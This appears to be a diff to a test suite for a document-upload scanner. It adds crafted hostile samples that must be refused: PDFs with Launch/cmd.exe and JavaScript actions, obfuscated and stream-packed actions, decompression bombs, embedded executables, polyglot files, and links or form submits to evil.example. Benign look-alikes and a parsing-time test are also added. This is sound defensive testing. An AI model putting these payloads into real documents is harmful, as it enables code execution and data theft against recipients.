@@ -1,4 +1,5 @@
 import { Readable } from 'node:stream';
+import { deflateSync } from 'node:zlib';
 import JSZip from 'jszip';
 import { describe, expect, it } from 'vitest';
 import { inspectBytes } from '../../src/documents/accept.ts';
@@ -15,7 +16,12 @@ const EICAR = ['X5O!P%@AP[4', String.raw`\PZX54(P^)7CC)7}$EICAR-STANDARD`, '-ANT
   '',
 );
 
-type Parts = Record<string, string>;
+const PNG = Buffer.from(
+  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
+  'base64',
+);
+
+type Parts = Record<string, string | Uint8Array>;
 async function zipped(parts: Parts): Promise<Buffer> {
   const zip = new JSZip();
   for (const [name, part] of Object.entries(parts)) zip.file(name, part);
@@ -38,6 +44,31 @@ const related = (type: string, target: string, mode = 'TargetMode="External"') =
     'word/_rels/document.xml.rels': `<Relationships><Relationship Id="r1" Type="${REL}/${type}" Target="${target}" ${mode}/></Relationships>`,
   });
 const sheet = (formula: string) => xlsx({ 'xl/worksheets/sheet1.xml': `<s><c><f>${formula}</f></c></s>` });
+
+/** A PDF of these objects, from the second on; the first is its catalogue, of which this is the inside. */
+const pdf = (catalogue: string, objects: (string | Buffer)[] = [], trailer = '') =>
+  Buffer.concat([
+    Buffer.from(`%PDF-1.7\n1 0 obj\n<</Type/Catalog/Pages 2 0 R ${catalogue}>>\nendobj\n`, 'latin1'),
+    ...objects.map((object, i) =>
+      Buffer.concat([Buffer.from(`${i + 2} 0 obj\n`), Buffer.from(object), Buffer.from('\nendobj\n')]),
+    ),
+    Buffer.from(`trailer\n<</Root 1 0 R ${trailer}>>\n%%EOF\n`, 'latin1'),
+  ]);
+const LAUNCH = '<</S/Launch/F(cmd.exe)>>';
+const SCRIPT = '<</S /JavaScript /JS (app.alert(1))>>';
+/** An object stream of one object, numbered 9. */
+const objectStream = (
+  object: string,
+  { type = '/Type/ObjStm', pack = deflateSync, filter = 'FlateDecode' } = {},
+) => {
+  const packed = pack(Buffer.from(`9 0 ${object}`));
+  return Buffer.concat([
+    Buffer.from(`<<${type}/N 1/First 4/Filter/${filter}/Length ${packed.byteLength}>>\nstream\r\n`),
+    packed,
+    Buffer.from('\nendstream'),
+  ]);
+};
+const link = (address: string) => pdf('', [`<</Type/Annot/Subtype/Link/A<</S/URI/URI ${address}>>>>`]);
 
 const HOSTILE: [name: string, made: () => Promise<Buffer> | Buffer, fault: DocumentFault][] = [
   ['dde.docx', () => field(code('DDE cmd "/c calc"')), 'dde'],
@@ -125,13 +156,82 @@ const HOSTILE: [name: string, made: () => Promise<Buffer> | Buffer, fault: Docum
   ['return.csv', () => Buffer.from('a\r=1+1'), 'formula'],
   ['mark.csv', () => Buffer.from('\uFEFF=1+1'), 'formula'],
   ['eicar.txt', () => Buffer.from(EICAR), 'malware'],
+  ['launch.pdf', () => pdf(`/OpenAction ${LAUNCH}`), 'active'],
+  ['script.pdf', () => pdf('/OpenAction 2 0 R', [SCRIPT]), 'active'],
+  ['named-script.pdf', () => pdf(`/Names<</JavaScript<</Names[(a) 2 0 R]>>>>`, [SCRIPT]), 'active'],
+  ['spelt.pdf', () => pdf('', ['<</#53/J#61vaScript/JS(1)>>']), 'active'],
+  ['remark.pdf', () => pdf('', ['<</S %(\n  % >>\r /Launch>>']), 'active'],
+  ['far.pdf', () => pdf('', [`<</S %${'a'.repeat(10_000)}\n/Launch>>`]), 'damaged'],
+  ['elsewhere.pdf', () => pdf('', ['<</S 3 0 R/JS(1)>>', '/JavaScript']), 'active'],
+  ['in-string.pdf', () => pdf('', [`(a string in which 7 0 obj ${SCRIPT} endobj begins)`]), 'active'],
+  ['in-stream.pdf', () => pdf('', [`<</Length 99>>\nstream\n7 0 obj ${LAUNCH} endobj\nendstream`]), 'active'],
+  ['packed.pdf', () => pdf('/OpenAction 9 0 R', [objectStream(SCRIPT)]), 'active'],
+  ['packed-launch.pdf', () => pdf('', [objectStream(LAUNCH)]), 'active'],
+  ['untyped.pdf', () => pdf('', [objectStream(SCRIPT, { type: '' })]), 'active'],
+  [
+    'cut.pdf',
+    () =>
+      pdf('', [
+        objectStream(`${SCRIPT}${'x'.repeat(500)}`, { pack: (bytes) => deflateSync(bytes).subarray(0, -4) }),
+      ]),
+    'damaged',
+  ],
+  [
+    'packed-otherwise.pdf',
+    () =>
+      pdf('', [
+        objectStream(SCRIPT, { filter: 'ASCIIHexDecode', pack: (b) => Buffer.from(`${b.toString('hex')}>`) }),
+      ]),
+    'damaged',
+  ],
+  ['bomb.pdf', () => pdf('', [objectStream(' '.repeat(101 * 1024 * 1024))]), 'bomb'],
+  ['attached.pdf', () => pdf('/Names<</EmbeddedFiles 2 0 R>>'), 'embedded'],
+  ['pinned.pdf', () => pdf('', ['<</Subtype/FileAttachment/FS 3 0 R>>']), 'embedded'],
+  ['specified.pdf', () => pdf('', ['<</F(a.exe)/EF<</F 3 0 R>>>>']), 'embedded'],
+  ['go-inside.pdf', () => pdf('', ['<</S/GoToE/T<</R/C>>>>']), 'embedded'],
+  ['go-elsewhere.pdf', () => pdf('', ['<</S/GoToR/F(\\\\\\\\evil.example\\\\x)>>']), 'external'],
+  ['submit.pdf', () => pdf('', ['<</S/SubmitForm/F(http://evil.example)>>']), 'active'],
+  ['by-itself.pdf', () => pdf('/AA<</WC 2 0 R>>', ['<</S/Named/N/Print>>']), 'active'],
+  ['xfa.pdf', () => pdf('/AcroForm<</XFA[(a) 2 0 R]>>'), 'active'],
+  ['opens.pdf', () => pdf('/OpenAction 2 0 R', ['<</S/URI/URI(http://evil.example)>>']), 'active'],
+  ['opens-at-once.pdf', () => pdf('/OpenAction<</S/URI/URI(http://evil.example)>>'), 'active'],
+  ['opens-packed.pdf', () => pdf('/OpenAction 9 0 R', [objectStream('<</S/URI/URI(http://a)>>')]), 'active'],
+  ['file.pdf', () => link('(file://evil.example/x)'), 'external'],
+  ['unc.pdf', () => link('(\\\\\\\\evil.example\\\\x)'), 'external'],
+  ['hex.pdf', () => link('<66696c653a2f2f78>'), 'external'],
+  ['octal.pdf', () => link('(\\152avascript:1)'), 'external'],
+  ['stream-of.pdf', () => pdf('', ['<</FS/URL/F(http://evil.example/x)>>']), 'external'],
+  ['encrypted.pdf', () => pdf('', ['<</Filter/Standard>>'], '/Encrypt 2 0 R'), 'protected'],
+  ['page-first.pdf', () => Buffer.concat([Buffer.from('<html><script>1</script>'), pdf('')]), 'disguised'],
+  ['archive-too.pdf', async () => Buffer.concat([pdf(''), await zipped({ 'a.exe': 'MZ' })]), 'disguised'],
+  [
+    'archive-remark.pdf',
+    async () => {
+      const [start, zip] = [pdf(''), await zipped({ 'a.exe': 'MZ' })];
+      zip.writeUInt16LE(start.length, zip.length - 2);
+      return Buffer.concat([start, zip, start]);
+    },
+    'disguised',
+  ],
+  ['archive-too.png', async () => Buffer.concat([PNG, await zipped({ 'a.exe': 'MZ' })]), 'disguised'],
+  ['page.txt', () => Buffer.from('\n<!DOCTYPE html><script>1</script>'), 'disguised'],
+  ['eicar.docx', () => docx({ 'word/media/a.bin': `${'a'.repeat(70_000)}${EICAR}` }), 'malware'],
+  ['program.docx', () => docx({ 'word/media/a.png': 'MZ\u0090' }), 'embedded'],
+  ['rar.docx', () => docx({ 'word/media/a.png': 'Rar!\u001a\u0007\u0000' }), 'embedded'],
+  ['table.docx', async () => docx({ 'word/embeddings/t.xlsx': await sheet('CALL("urlmon","x")') }), 'macros'],
+  [
+    'deeper.docx',
+    async () => docx({ 'word/embeddings/t.xlsx': await xlsx({ 'xl/a.zip': await zipped({ a: 'b' }) }) }),
+    'embedded',
+  ],
+  ['picture.docx', () => docx({ 'word/media/a.pdf': pdf('', [SCRIPT]) }), 'active'],
   ['eicar-later.csv', () => Buffer.from(`${'a,b\n'.repeat(20_000)}${EICAR}`), 'malware'],
 ];
 
 const inspect = (name: string, bytes: Buffer) => inspectBytes(name, () => Readable.from([bytes]));
 
 describe('hostile documents', () => {
-  it('are sixty at least', () => expect(HOSTILE.length).toBeGreaterThanOrEqual(60));
+  it('are a hundred at least', () => expect(HOSTILE.length).toBeGreaterThanOrEqual(100));
 
   it.each(HOSTILE)('%s is refused', async (name, made, why) => {
     await expect(inspect(name, await made())).rejects.toMatchObject({
@@ -152,6 +252,23 @@ describe('hostile documents', () => {
   });
 });
 
+describe('a PDF made to take long', () => {
+  const MB = 1024 * 1024;
+  it.each([
+    ['slashes', '/'],
+    ['actions', '/S '],
+    ['remarks', '/S%'],
+    ['addresses', '/S/URI '],
+    ['streams that begin nowhere', '/ObjStm '],
+    ['numbers', '/S 1 '],
+  ])('of %s takes no time', async (_, piece) => {
+    const file = Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(4 * MB, piece)]);
+    const started = process.cpuUsage();
+    await inspect('a.pdf', file).catch(() => {});
+    expect(process.cpuUsage(started).user / 1_000).toBeLessThan(8_000);
+  });
+});
+
 describe('what is like it and harmless', () => {
   it.each<[string, () => Promise<Buffer> | Buffer]>([
     ['click.docx', () => related('hyperlink', 'https://oas.example/x')],
@@ -161,6 +278,20 @@ describe('what is like it and harmless', () => {
     ['address.docx', () => field(code('HYPERLINK "https://oas.example"'))],
     ['sum.xlsx', () => sheet('SUM(A1:A3)')],
     ['link.odt', () => odt('<text:a xlink:href="https://oas.example">x</text:a>')],
+    ['words.pdf', () => pdf('/OpenAction[2 0 R/Fit]', ['(/Launch and https://a.example/JavaScript)'])],
+    [
+      'start.pdf',
+      () => pdf('/OpenAction 9 0 R', [objectStream('<</S/GoTo/D[2 0 R/Fit]>>'), '<</S/URI/URI(http://a)>>']),
+    ],
+    ['click.pdf', () => link('(https://oas.example)')],
+    ['write.pdf', () => link('<6d61696c746f3a616e61406f61732e6578616d706c65>')],
+    [
+      'outlines.pdf',
+      () => pdf('/Outlines 2 0 R', ['<</First 3 0 R/Last 3 0 R>>', '<<>>\nstream\nq Q\nendstream']),
+    ],
+    ['chart.docx', async () => docx({ 'word/embeddings/t.xlsx': await sheet('SUM(A1:A3)') })],
+    ['picture.docx', () => docx({ 'word/media/a.pdf': pdf(''), 'word/media/b.png': PNG })],
+    ['angle.txt', () => Buffer.from('<ana@oas.example> escribió:')],
     ['figures.csv', () => Buffer.from('país;fecha;tel\nPerú;-3,5;+51 1 630-6000\n"a=b";"Lima, Perú";-\n')],
   ])('%s is taken', async (name, made) => {
     await expect(inspect(name, await made())).resolves.toBeUndefined();
